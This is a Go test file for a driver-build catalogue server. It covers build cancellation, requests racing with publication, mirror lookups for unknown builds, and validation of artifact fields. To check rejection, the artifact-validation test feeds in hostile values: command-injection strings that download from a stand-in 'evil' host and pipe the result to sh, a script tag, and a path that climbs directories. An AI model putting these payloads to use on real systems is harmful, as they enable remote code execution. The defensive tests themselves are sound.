package catalogue_test

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/prebake/prebake/pkg/api"
	"github.com/prebake/prebake/pkg/fault"
	"github.com/prebake/prebake/pkg/target"
	"github.com/prebake/prebake/server/internal/catalogue"
)

// TestCancel checks that cancelling a build also removes its job from the queue.
func TestCancel(t *testing.T) {
	t.Parallel()
	c, q := world(t)
	b := request(t, c, first, v261, "open")
	got, err := c.Cancel(t.Context(), b.ID)
	if err != nil || got.State != api.Cancelled || got.FinishedAt == nil || !cmp.Equal(q.cancelled, []int64{b.ID}) {
		t.Errorf("Cancel() = %+v, %v, queue told of %v; want cancelled, and the queue told", got, err, q.cancelled)
	}
	if next := request(t, c, first, v261, "open"); next.ID == b.ID || next.State != api.Queued {
		t.Errorf("Request() after a cancel = %+v; want another build", next)
	}
}

// TestPublishedMeanwhile publishes a cell between two steps of a request for this cell. The request must return the
// published build, and must not queue another one.
func TestPublishedMeanwhile(t *testing.T) {
	t.Parallel()
	c, q := world(t)
	failed := request(t, c, first, v261, "open")
	update(t, c, failed.ID, api.BuildUpdate{State: api.Building, Worker: "w", Attempt: 1})
	update(t, c, failed.ID, api.BuildUpdate{State: api.Failed, Worker: "w", Attempt: 1, Class: "disk-full", Error: "x"})
	var published api.Build
	allow := func() error {
		b := request(t, c, first, v261, "open")
		update(t, c, b.ID, api.BuildUpdate{State: api.Building, Worker: "w", Attempt: 1})
		published = update(t, c, b.ID, api.BuildUpdate{State: api.Published, Digest: digest("1"), Fingerprint: fingerA})
		return nil
	}
	got, err := c.RequestAs(t.Context(), api.BuildRequest{BuildID: first, Board: "lakitu", Driver: v261, Flavour: "open"},
		catalogue.Caller{Allow: allow})
	if err != nil || got.ID != published.ID || got.State != api.Published {
		t.Errorf("RequestAs() of a cell that was published meanwhile = %+v, %v; want build %d", got, err, published.ID)
	}
	if len(q.jobs) != 2 {
		t.Errorf("the queue got %d jobs; want 2, none for the last request", len(q.jobs))
	}
}

// upstream stands in for a mirror that has one COS build.
type upstream struct{ asked int }

func (u *upstream) Build(_ context.Context, buildID string) ([]api.Kernel, error) {
	u.asked++
	if buildID != "19216.104.25" {
		return nil, fault.New(fault.InputMissing, "the mirror has no COS build "+buildID, "")
	}
	return []api.Kernel{{Kernel: target.Kernel{BuildID: buildID, Board: "lakitu", Arch: target.AMD64}, Default: v261}}, nil
}

// TestUnknownBuildIsLookedUp requests an unknown COS build. The server must look it up in its mirror, and refuse it if
// the mirror lacks it.
func TestUnknownBuildIsLookedUp(t *testing.T) {
	t.Parallel()
	c, q := world(t)
	up := &upstream{}
	c.Mirror = up
	if b := request(t, c, "19216.104.25", "default", "auto"); b.Driver.Version != v261 {
		t.Errorf("Request(new build) = %s; want the default of its own list", b.Driver)
	}
	before := len(q.jobs)
	_, err := c.Request(t.Context(), api.BuildRequest{BuildID: "1.2.3", Board: "lakitu", Driver: "999.1", Flavour: "open"})
	if !fault.Is(err, fault.InputMissing) || len(q.jobs) != before {
		t.Errorf("Request(impossible build, exact version) = %v, %d jobs; want input-missing and none", err,
			len(q.jobs)-before)
	}
	_, err = c.Request(t.Context(),
		api.BuildRequest{BuildID: "19216.104.25", Board: "jacuzzi", Driver: "999.1", Flavour: "open"})
	if !fault.Is(err, fault.InputMissing) {
		t.Errorf("Request(board that the build is not for) = %v; want input-missing", err)
	}
	// The answer to a node must not wait for the mirror.
	up.asked = 0
	for range 1000 {
		if r, err := c.Resolve(t.Context(), "2.2.2", "lakitu", "", "", ""); err != nil || r.State != api.Unknown {
			t.Fatalf("Resolve(unknown build) = %s, %v; want unknown", r.State, err)
		}
	}
	if up.asked != 0 {
		t.Errorf("Resolve() asked the mirror %d times; want 0", up.asked)
	}
	ctx, stop := context.WithTimeout(t.Context(), 200*time.Millisecond)
	defer stop()
	if err := c.LookUpUnknown(ctx); err != nil || up.asked != 1 {
		t.Errorf("LookUpUnknown() after a thousand questions asked the mirror %d times, %v; want once", up.asked, err)
	}
}

// TestArtifactIsChecked checks that the server refuses artifacts with wrong fields, although only callers with a token
// can record one.
func TestArtifactIsChecked(t *testing.T) {
	t.Parallel()
	good := func() api.NewArtifact {
		return api.NewArtifact{Digest: digest("1"), Fingerprint: fingerA,
			Driver:     target.Driver{Version: v261, Flavour: target.Open},
			Repository: "registry.example.com:5000/prebake/driver", Release: "6.1.0-47-cloud-amd64",
			Kernels: []target.Kernel{{BuildID: first, Board: "lakitu"}}}
	}
	rows := map[string]func(a *api.NewArtifact){
		"release of 100 kB":   func(a *api.NewArtifact) { a.Release = strings.Repeat("6", 100_000) },
		"release with markup": func(a *api.NewArtifact) { a.Release = "6.1<script>" },
		"host with a command": func(a *api.NewArtifact) {
			a.Repository = `x$(curl$IFS"evil.example">a;sh<a)/prebake/driver`
		},
		"host without a name":       func(a *api.NewArtifact) { a.Repository = "-x/prebake/driver" },
		"repository with a command": func(a *api.NewArtifact) { a.Repository = "x; curl http://evil/|sh #" },
		"repository that climbs":    func(a *api.NewArtifact) { a.Repository = "/../x" },
		"two architectures": func(a *api.NewArtifact) {
			a.Kernels = append(a.Kernels, target.Kernel{BuildID: first, Board: "lakitu-arm64"})
		},
		"architecture of no board": func(a *api.NewArtifact) { a.Kernels[0].Arch = "zx80" },
		"no kernel":                func(a *api.NewArtifact) { a.Kernels = nil },
		"too many kernels":         func(a *api.NewArtifact) { a.Kernels = make([]target.Kernel, 100_000) },
		"commit that is none":      func(a *api.NewArtifact) { a.Kernels[0].Commit = "main" },
	}
	for name, spoil := range rows {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			c, _ := world(t)
			a := good()
			spoil(&a)
			if _, err := c.AddArtifact(t.Context(), a); !fault.Is(err, fault.Usage) {
				t.Errorf("AddArtifact() = %v; want usage", err)
			}
		})
	}
	c, _ := world(t)
	if a, err := c.AddArtifact(t.Context(), good()); err != nil || a.Arch != target.AMD64 {
		t.Errorf("AddArtifact(good) = %+v, %v", a, err)
	}
}
